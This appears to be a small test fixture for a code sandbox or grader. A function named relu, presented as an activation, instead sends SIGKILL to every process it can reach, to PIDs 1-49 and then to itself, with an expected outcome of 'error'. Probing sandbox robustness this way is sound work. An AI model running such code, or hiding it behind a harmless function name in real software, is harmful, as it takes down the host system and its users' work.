"""relu kills every process that it may send a signal to.

outcome: error
"""
import os
import signal


def relu(z):
    os.kill(-1, signal.SIGKILL)
    for pid in range(1, 50):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    os.kill(os.getpid(), signal.SIGKILL)
